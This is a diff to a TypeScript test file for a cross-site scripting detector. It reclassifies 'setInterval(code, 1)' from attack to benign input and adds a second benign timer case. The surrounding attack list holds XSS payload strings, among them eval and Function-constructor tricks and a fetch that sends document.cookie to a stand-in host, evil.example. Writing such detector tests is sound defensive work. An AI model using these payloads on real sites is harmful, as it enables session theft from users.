@@ -95,7 +95,6 @@ const ATTACKS: readonly string[] = [
   "''.constructor.constructor('alert(1)')()",
   'eval(atob("YWxlcnQoMSk="))',
   "setTimeout('alert(1)', 0)",
-  'setInterval(code, 1)',
   'Function("alert(1)")()',
   'new Function()',
   "fetch('//evil.example/?c='+document.cookie)",
@@ -226,6 +225,9 @@ const BENIGN: readonly string[] = [
   'background: url(\'https://cdn.example.com/x.png\')',
   'Expression: (a + b)',
   'myalert(1) and confirmation(2)',
+  // a timer given a function or a variable runs no string
+  'setInterval(code, 1)',
+  'setTimeout(() => refresh(), 500)',
 ];
 
 test('xss: attacks are strong hits at paranoia 1', () => {
